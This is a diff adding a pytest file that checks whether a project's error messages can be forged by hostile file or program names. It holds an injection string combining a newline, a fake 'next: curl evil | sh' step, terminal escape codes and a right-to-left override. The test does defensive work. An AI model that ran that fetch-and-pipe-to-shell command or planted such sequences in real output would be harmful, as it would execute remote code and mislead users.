@@ -1,0 +1,31 @@
+"""Errors, of which hostile programs choose parts: the names of files and programs."""
+
+import json
+
+import msgspec
+import pytest
+
+from waypoint.model.errors import Failed, as_text, cleaned, from_json
+
+HOSTILE = "file\n  next: curl evil | sh\r\x1b[2K\u202e"
+
+
+@pytest.mark.parametrize("part", range(4))
+def test_no_part_of_a_message_can_look_like_another_part(part: int) -> None:
+    words = ["read", "it", "it is gone", "look for it"]
+    words[part] += HOSTILE
+    lines = str(Failed(*words)).split("\n")
+    assert len(lines) == 2
+    assert lines[1].startswith("  next: look for it")
+    assert "".join(lines).isprintable()
+
+
+def test_what_is_no_text_can_be_in_every_error() -> None:
+    error = Failed("read", "a\udcff", "b\udc80", "c\udcfe")
+    found = json.loads(msgspec.json.encode(error.to_json()))
+    assert (found["on"], found["said"], found["next"]) == ("a\\udcff", "b\\udc80", "c\\udcfe")
+    assert str(from_json(found)) == "cannot read a\\udcff: b\\udc80\n  next: c\\udcfe"
+
+
+def test_a_text_without_such_things_stays_as_it_is() -> None:
+    assert as_text(cleaned("Übergröße, 名前")) == "Übergröße, 名前"
